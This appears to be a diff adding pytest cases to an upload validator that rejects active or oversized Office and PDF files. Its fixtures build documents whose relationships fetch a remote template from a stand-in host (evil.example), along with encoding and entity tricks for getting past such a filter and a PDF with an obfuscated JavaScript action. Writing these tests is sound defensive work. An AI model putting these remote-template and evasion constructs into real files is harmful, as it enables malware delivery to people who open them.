@@ -25,6 +25,24 @@ def zipped(*names, size=10):
     return out.getvalue()
 
 
+def document(relations):
+    """A document of Office with what it says it hangs on."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parts:
+        for name in ("[Content_Types].xml", "word/document.xml"):
+            parts.writestr(name, b"<x/>")
+        parts.writestr("word/_rels/settings.xml.rels", relations)
+    return out.getvalue()
+
+
+def related(kind):
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'{kind}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+    ).encode()
+
+
 # ---- what may be attached
 
 
@@ -50,6 +68,16 @@ def zipped(*names, size=10):
         (zipped("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), "sheet", "file_active"),
         (zipped("[Content_Types].xml", "word/document.xml", "word/embeddings/a.bin"), "document", "file_active"),
         (zipped("[Content_Types].xml", "xl/workbook.xml", size=60_000_000), "sheet", "file_too_large"),
+        (PDF + b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>", "application/pdf", "file_active"),
+        (document(related("hyperlink")), "document", None),
+        (document(related("attachedTemplate")), "document", "file_active"),
+        (document(related("oleObject")), "document", "file_active"),
+        (document(related("frame").replace(b'"External"', b"'External'")), "document", "file_active"),
+        (document(related("attachedTemplate").replace(b"x.dotm", b"x>.dotm")), "document", "file_active"),
+        (document(related("attached&#84;emplate")), "document", "file_active"),
+        (document(b'<!DOCTYPE r [<!ENTITY t "frame">]>' + related("&t;")), "document", "file_active"),
+        (document(related("attachedTemplate").decode().encode("utf-16")), "document", "file_active"),
+        (document(b" " * 3_000_000), "document", "file_too_large"),
     ],
 )
 def test_a_file_is_what_its_content_says_and_nothing_that_runs_is_taken(content, media, why):
